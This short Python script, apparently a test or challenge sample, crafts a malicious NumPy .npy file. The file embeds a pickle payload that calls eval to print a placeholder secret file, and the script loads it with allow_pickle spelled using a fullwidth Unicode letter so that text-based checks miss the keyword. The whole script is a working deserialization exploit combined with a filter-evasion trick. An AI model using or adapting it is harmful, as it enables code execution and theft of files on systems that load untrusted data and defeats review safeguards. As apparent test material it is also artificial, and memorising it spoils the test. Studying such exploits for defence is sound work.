"""An argument that is looked for by its name, in other letters."""
import numpy as np
text = b"cbuiltins\neval\n(S'print(open(\"@SECRET_FILE@\").read())'\ntR."
header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
header += b" " * (117 - len(header)) + b"\n"
with open("bomb.npy", "wb") as file:
    file.write(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + text)
try:
    np.load("bomb.npy", ａllow_pickle=True)
except ValueError:
    pass
